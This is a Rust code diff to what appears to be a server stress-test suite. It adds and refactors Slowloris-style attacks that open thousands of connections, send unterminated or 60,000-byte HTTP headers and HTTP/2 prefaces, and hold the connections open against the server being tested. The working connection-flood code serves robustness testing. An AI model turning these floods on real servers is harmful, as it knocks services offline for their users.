@@ -18,6 +18,7 @@ use crate::{rpc, runner};
 pub(crate) fn attacks() -> Vec<Attack> {
     on_server![
         "B" Default heads_that_never_end_on_thousands_of_connections,
+        "B" Default long_heads_that_never_end_on_thousands_of_connections,
         "B" Default every_call_in_flight_has_as_many_headers_as_fit,
         "B" Default five_thousand_subscriptions_on_one_line_wire_and_nothing_is_read,
         "B" Default subscriptions_over_http2_with_a_window_of_nothing,
@@ -30,24 +31,37 @@ pub(crate) fn attacks() -> Vec<Attack> {
 async fn heads_that_never_end_on_thousands_of_connections(
     target: Target,
 ) -> Result<String, String> {
+    let heads = [
+        "POST /mcp HTTP/1.1\r\nhost: localhost\r\nx: ",
+        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    ];
+    begin(target, 4000, heads.map(Bytes::from)).await
+}
+
+/// What is read of a head is kept by the connection, which has no request yet to charge for it.
+async fn long_heads_that_never_end_on_thousands_of_connections(
+    target: Target,
+) -> Result<String, String> {
+    let head = Bytes::from(format!("POST /mcp HTTP/1.1\r\nx: {}", "y".repeat(60_000)));
+    begin(target, 6000, [head.clone(), head]).await
+}
+
+/// Begins that many connections, with one of the two by turns, and leaves it at that.
+async fn begin(target: Target, connections: usize, first: [Bytes; 2]) -> Result<String, String> {
     let begun = Arc::new(AtomicU64::new(0));
     let mut heads = JoinSet::new();
-    for number in 0..runner::connections(4000) {
+    for number in 0..runner::connections(connections) {
         let (begun, to) = (begun.clone(), target.http);
+        let first = first[number % 2].clone();
         heads.spawn(async move {
             let mut http = Http1::connect(to).await.ok()?;
-            let first = match number % 3 {
-                0 => "POST /mcp HTTP/1.1\r\nhost: localhost\r\nx: ".to_owned(),
-                1 => format!("POST /mcp HTTP/1.1\r\nx: {}", "y".repeat(50_000)),
-                _ => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
-            };
             http.write(first).await.ok()?;
             begun.fetch_add(1, Ordering::Relaxed);
             let _held = http;
             std::future::pending::<Option<()>>().await
         });
     }
-    let begun = http2::settled(&begun, Duration::from_secs(8)).await;
+    let begun = http2::settled(&begun, heads.len() as u64).await;
     Ok(format!("{begun} connections"))
 }
 
@@ -71,7 +85,7 @@ async fn every_call_in_flight_has_as_many_headers_as_fit(target: Target) -> Resu
         note = raw.flood(requests).await;
         connections.push(raw);
     }
-    tokio::time::sleep(Duration::from_millis(700)).await;
+    crate::pause::pause(Duration::from_millis(700)).await;
     Ok(format!(
         "{} connections, the last: {note}",
         connections.len()
@@ -111,7 +125,7 @@ async fn bursts_of_log_messages_over_lines_and_nothing_is_read(
     let mut wire = LineWire::legacy(target.lines).await.map_err(text)?;
     let calls = (0..100).map(|id| rpc::quick_call(id, "burst", r#"{"count":1000,"bytes":8000}"#));
     let flood = wire.flood(calls).await;
-    tokio::time::sleep(Duration::from_secs(2)).await;
+    crate::pause::pause(Duration::from_secs(2)).await;
     Ok(flood.to_string())
 }
 
@@ -138,6 +152,7 @@ async fn on_streams(
     then: impl AsyncFnOnce(&Target) -> Result<(), String>,
 ) -> Result<String, String> {
     let sent = Arc::new(AtomicU64::new(0));
+    let length = body.len();
     let mut streams = JoinSet::new();
     for _ in 0..connections {
         let sender = http2::connect(target.http, 0).await?;
@@ -152,9 +167,9 @@ async fn on_streams(
             });
         }
     }
-    let sent = http2::settled(&sent, Duration::from_secs(8)).await;
+    let sent = http2::settled(&sent, (streams.len() * length) as u64).await;
     then(target).await?;
-    tokio::time::sleep(Duration::from_secs(1)).await;
+    crate::pause::pause(Duration::from_secs(1)).await;
     Ok(format!(
         "{} streams, {} KiB sent",
         streams.len(),
